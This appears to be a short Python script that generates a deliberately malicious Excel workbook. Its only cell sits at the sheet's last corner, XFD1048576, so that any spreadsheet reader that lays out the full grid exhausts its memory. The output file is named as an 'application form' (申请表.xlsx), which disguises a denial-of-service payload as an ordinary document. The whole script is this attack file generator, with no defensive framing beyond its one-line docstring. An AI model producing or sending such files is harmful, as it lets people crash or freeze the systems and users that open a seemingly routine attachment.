"""A workbook with one cell in the last corner of its sheet: laid out whole, it takes all memory."""

import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = f'<worksheet xmlns="{MAIN}"><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>'
BOOK = f'<workbook xmlns="{MAIN}" xmlns:r="{RELATIONS}"><sheets><sheet name="1" sheetId="1" r:id="r1"/></sheets></workbook>'
with zipfile.ZipFile("申请表.xlsx", "w", zipfile.ZIP_DEFLATED) as package:
    package.writestr("xl/workbook.xml", BOOK)
    package.writestr(
        "xl/_rels/workbook.xml.rels", '<r><R Id="r1" Target="worksheets/sheet1.xml"/></r>'
    )
    package.writestr("xl/worksheets/sheet1.xml", SHEET)
